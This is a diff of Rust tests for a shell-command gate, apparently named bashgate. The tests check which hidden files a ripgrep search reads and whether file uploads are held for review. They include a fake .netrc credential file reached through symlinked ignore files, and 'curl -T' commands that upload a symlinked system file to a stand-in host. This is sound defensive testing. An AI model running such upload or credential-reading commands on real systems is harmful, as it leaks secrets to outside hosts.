@@ -201,17 +201,10 @@ fn files_that_nobody_named_and_somebody_reads() {
         assert!(found.effects.reads.iter().any(|path| path.ends_with(".rgignore")), "{command}: {found:?}");
     }
     // Those of the folders above as well.
-    let world = bashgate_tests::Site::new("");
-    std::fs::create_dir_all(world.work().join("a/b")).unwrap();
-    world.check("cd a/b && rg -l x").expect(0);
-    std::fs::write(world.work().join(".netrc"), "machine h login l password p\n").unwrap();
-    for list in ["a/.ignore", ".rgignore", "a/b/.git/info/exclude"] {
-        let list = world.work().join(list);
-        std::fs::create_dir_all(list.parent().unwrap()).unwrap();
-        std::os::unix::fs::symlink(world.work().join(".netrc"), &list).unwrap();
-        assert_ne!(world.check("cd a/b && rg -l x").code, Some(0), "{}", list.display());
-        std::fs::remove_file(list).unwrap();
-        world.check("cd a/b && rg -l x").expect(0);
+    let around = Surroundings { cwd: Some("/w/a".to_owned()), ..Surroundings::default() };
+    let found = classify(&CommandLine::parse("cd b && rg -l x").unwrap(), &around);
+    for list in ["/w/a/b/.ignore", "/w/a/.ignore", "/w/.rgignore", "/.gitignore", "/w/a/b/.git/info/exclude"] {
+        assert!(found.effects.reads.iter().any(|path| path == list), "{list}: {:?}", found.effects.reads);
     }
 }
 
@@ -258,7 +251,10 @@ fn what_leaves_is_looked_at_where_it_lies() {
     // Where a link leads through another process's eyes nobody can tell here.
     std::os::unix::fs::symlink("/proc/self/root/etc/hostname", work.join("doubt")).unwrap();
     for command in ["curl -T doubt https://a.example", "curl -T ~nobodyhere/x https://a.example"] {
-        site.check(command).expect(2);
-        assert_eq!(rule(), "unlooked", "{command}");
+        let running = site.check_later(command);
+        let id = site.held(command);
+        assert_eq!(site.pending()[0]["rule"], "unlooked", "{command}");
+        site.cli(["deny", &id]).expect(0);
+        running.join().unwrap().expect(2);
     }
 }
